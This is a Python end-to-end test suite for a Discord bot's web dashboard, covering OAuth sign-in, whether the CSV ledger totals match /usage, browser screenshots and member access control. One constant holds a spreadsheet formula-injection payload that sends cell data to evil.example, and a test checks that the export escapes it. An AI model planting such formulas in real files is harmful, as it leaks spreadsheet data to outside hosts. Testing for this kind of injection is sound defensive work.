"""The web dashboard served by the real bot process: start-up, the link in ``/config``, and a
real browser (Debian's Chromium, driven by Playwright) signing in through the Discord emulator.

The browser tests save screenshots at 1280 and 390 pixels wide (``tmp/artifacts/dashboard``,
or ``$GENBOT_ARTIFACTS``), check that no page scrolls sideways and that the console stays free
of errors (the strict CSP would report any inline script or style there). Without Chromium or
Playwright they are skipped, except where ``GENBOT_BROWSER_TESTS=required`` (``.ci/run``).
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import socket
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import aiohttp
import pytest
import pytest_asyncio

from bot.errors import format_cents
from tests.support.e2e.harness import BOT_TOKEN, World, close_world, open_world

ROOT = Path(__file__).resolve().parents[2]
SECRET = "e2e-client-secret"
IMAGE_MODEL = "black-forest-labs/flux-schnell"
VIDEO_MODEL = "aurora-lite/text-to-video"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
WIDTHS = (1280, 390)

pytestmark = pytest.mark.asyncio(loop_scope="module")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def world(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[World]:
    port = free_port()
    opened = await open_world(
        Path(tmp_path_factory.mktemp("e2e")),
        overrides={
            "DASHBOARD_PUBLIC_URL": f"http://127.0.0.1:{port}",
            "DISCORD_CLIENT_SECRET": SECRET,
            "METRICS_PORT": "0",
        },
    )
    opened.discord.oauth.client_secret = SECRET
    yield opened
    await close_world(opened)
    log = opened.bot.log()
    assert SECRET not in log
    assert BOT_TOKEN not in log
    assert "Traceback" not in log
    assert opened.discord.server_errors == []


def dashboard_url(world: World) -> str:
    return str(world.bot.env["DASHBOARD_PUBLIC_URL"])


def month_of_usage(text: str) -> str:
    """The "This month (UTC)" figure of a /usage answer, as shown."""
    found = re.search(r"This month \(UTC\)\s*\n(\S+)", text)
    assert found is not None, text
    return found.group(1)


def dollars(shown: str) -> Decimal:
    """A dashboard figure, ``$0.0035``, as Decimal dollars."""
    return Decimal(shown.strip().removeprefix("$"))


async def paid_images(world: World, count: int) -> None:
    for i in range(count):
        answer = await world.answer(
            await world.command("image", {"prompt": f"=1+{i} kites", "model": IMAGE_MODEL})
        )
        assert answer.attachments or answer.urls, answer.text


async def test_start_up_prints_the_redirect_uri_and_config_links_the_dashboard(
    world: World,
) -> None:
    url = dashboard_url(world)
    assert "OAuth2 redirect URI to add in the Discord developer portal" in world.bot.log()
    assert f"{url}/auth/callback" in world.bot.log()
    metrics = re.search(r"metrics and health checks at http://[^:]+:(\d+)", world.bot.log())
    assert metrics is not None and int(metrics.group(1)) != urlsplit(url).port
    shown = await world.answer(await world.command("config", {}, admin=True, subcommand="show"))
    assert f"{url}/servers/{world.guild.id}" in shown.text


async def test_the_csv_export_adds_up_to_usage(world: World) -> None:
    """Signed in over HTTP (no browser): the exported ledger's sum is /usage's month, and a
    prompt a spreadsheet would run is exported as text."""
    await paid_images(world, 2)
    await world.answer(await world.command("video", {"prompt": FORMULA, "model": VIDEO_MODEL}))
    usage = month_of_usage((await world.answer(await world.command("usage", {}, admin=True))).text)
    base = dashboard_url(world)
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        begun = await http.get(f"{base}/auth/login", allow_redirects=False)
        authorize = begun.headers["Location"]
        world.discord.oauth.browser_user = world.admin.id
        form = dict(parse_qsl(urlsplit(authorize).query), action="authorize")
        consent = await http.post(
            f"{world.discord.base_url}/oauth2/authorize", data=form, allow_redirects=False
        )
        signed = await http.get(consent.headers["Location"], allow_redirects=False)
        assert signed.headers["Location"] == "/servers"
        exported = await http.get(f"{base}/servers/{world.guild.id}/ledger.csv")
        rows = list(csv.DictReader(io.StringIO(await exported.text())))
    total = sum((Decimal(r["amount_usd"]) for r in rows), Decimal(0))
    assert format_cents(total * 100) == usage
    assert [r["prompt"] for r in rows if r["kind"] == "video"] == ["'" + FORMULA]


# -- in a real browser ---------------------------------------------------------------------


def artifacts() -> Path:
    folder = Path(os.environ.get("GENBOT_ARTIFACTS", ROOT / "tmp" / "artifacts")) / "dashboard"
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def chromium() -> AsyncIterator[Any]:
    """Debian's Chromium under Playwright; skipped when missing, unless CI requires it."""
    required = os.environ.get("GENBOT_BROWSER_TESTS") == "required"
    executable = shutil.which("chromium") or shutil.which("chromium-browser")
    try:
        from playwright.async_api import async_playwright
    except ImportError:
        async_playwright = None
    if executable is None or async_playwright is None:
        missing = "chromium" if executable is None else "playwright"
        if required:
            pytest.fail(f"{missing} is missing and GENBOT_BROWSER_TESTS=required")
        pytest.skip(f"{missing} is missing (apt-get install chromium; pip install playwright)")
    async with async_playwright() as driver:
        browser = await driver.chromium.launch(executable_path=executable, args=CHROMIUM_ARGS)
        yield browser
        await browser.close()


class Tab:
    """One browser context (its own cookies) and page, recording console errors."""

    def __init__(self, page: Any, name: str) -> None:
        self.page = page
        self.name = name
        self.errors: list[str] = []
        page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
        page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.failed: list[str] = []
        page.on("response", lambda r: r.status >= 400 and self.failed.append(f"{r.status} {r.url}"))

    async def shoot(self, label: str) -> None:
        """Screenshots at each width; the page must not scroll sideways at any."""
        for width in WIDTHS:
            await self.page.set_viewport_size({"width": width, "height": 900})
            overflow = await self.page.evaluate(
                "document.documentElement.scrollWidth - document.documentElement.clientWidth"
            )
            assert overflow <= 0, f"{label} overflows by {overflow}px at {width}px"
            await self.page.screenshot(
                path=str(artifacts() / f"{self.name}-{label}-{width}.png"), full_page=True
            )
        await self.page.set_viewport_size({"width": 1280, "height": 900})


async def open_tab(chromium: Any, name: str) -> Tab:
    context = await chromium.new_context(accept_downloads=True)
    return Tab(await context.new_page(), name)


async def sign_in(world: World, tab: Tab, user_id: int) -> None:
    page = tab.page
    await page.goto(dashboard_url(world) + "/")
    world.discord.oauth.browser_user = user_id
    await page.click("text=Sign in with Discord")
    await page.click("#authorize")  # Discord's consent page
    await page.wait_for_url(re.compile(r"/servers$"))


async def test_in_a_browser_an_admin_reads_the_money_and_exports_it(
    world: World, chromium: Any
) -> None:
    await paid_images(world, 1)
    usage = month_of_usage((await world.answer(await world.command("usage", {}, admin=True))).text)
    tab = await open_tab(chromium, "admin")
    page = tab.page
    await sign_in(world, tab, world.admin.id)
    await tab.shoot("servers")
    await page.click(f'a[href="/servers/{world.guild.id}"]')
    assert format_cents(dollars(await page.inner_text("#month-spend")) * 100) == usage
    await tab.shoot("overview")
    await page.click("nav.tabs >> text=Spend")
    assert format_cents(dollars(await page.inner_text("#usage-month")) * 100) == usage
    await page.click("text=90 days")
    assert await page.locator("svg.chart rect.bar").count() == 90
    await tab.shoot("spend")
    await page.click("nav.tabs >> text=Ledger")
    await page.wait_for_selector("#ledger-total")
    await tab.shoot("ledger")
    # The filter form: htmx swaps the results in place (a plain GET without JavaScript).
    await page.select_option("select[name=kind]", "video")
    await page.click("form.filters button[type=submit]")
    await page.wait_for_url(re.compile(r"kind=video"))
    await page.wait_for_selector("#ledger-total")
    await page.select_option("select[name=kind]", "")
    await page.click("form.filters button[type=submit]")
    await page.wait_for_url(re.compile(r"kind=&|kind=$"))
    async with page.expect_download() as waiting:
        await page.click("#csv")
    download = await waiting.value
    text = Path(await download.path()).read_text(encoding="utf-8")
    total = sum((Decimal(r["amount_usd"]) for r in csv.DictReader(io.StringIO(text))), Decimal(0))
    assert format_cents(total * 100) == usage
    await page.click("nav.tabs >> text=Gallery")
    await tab.shoot("gallery")
    await page.click("nav.tabs >> text=Audit log")
    await tab.shoot("audit")
    await page.click("text=Sign out")
    await page.wait_for_url(re.compile(r"/$"))
    assert (tab.errors, tab.failed) == ([], [])


async def test_in_a_browser_a_member_sees_my_results_and_404_on_the_server(
    world: World, chromium: Any
) -> None:
    tab = await open_tab(chromium, "member")
    page = tab.page
    await sign_in(world, tab, world.member.id)
    assert await page.locator(f'a[href="/servers/{world.guild.id}"]').count() == 0
    await page.click("text=My results")
    await page.wait_for_selector("h1:has-text('My results')")
    await tab.shoot("me")
    for path in ("", "/spend", "/ledger"):
        response = await page.goto(f"{dashboard_url(world)}/servers/{world.guild.id}{path}")
        assert response is not None and response.status == 404
    assert [e for e in tab.errors if "404" not in e] == []
